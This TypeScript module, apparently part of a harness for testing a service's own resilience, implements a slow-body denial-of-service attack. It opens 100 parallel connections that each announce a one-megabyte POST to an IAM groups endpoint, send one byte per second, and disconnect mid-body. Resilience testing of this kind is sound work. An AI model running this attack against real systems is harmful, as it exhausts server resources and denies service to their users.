// Announces a large body, sends one byte per second, and disconnects in the middle of the body.
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './attack.ts'
import { holdMs } from './attack.ts'
import { written } from './sockets.ts'

const secondMs = 1000

export const slowBodies: Attack = {
  parallel: 100,
  async round(target) {
    const { organization, authorization } = target.tenant
    await target.take(1)
    const socket = await target.open()
    socket.resume()
    const head = [
      `POST /iam/v2beta1/groups/${organization} HTTP/1.1`,
      ...['Host: localhost', `Authorization: ${authorization}`],
      ...['Content-Type: application/json', 'Content-Length: 1000000', '', '{'],
    ]
    await written(socket, head.join('\r\n'))
    for (let waitedMs = 0; waitedMs < holdMs && !socket.closed; waitedMs += secondMs) {
      await sleep(secondMs)
      await written(socket, ' ')
    }
    socket.destroy()
  },
}
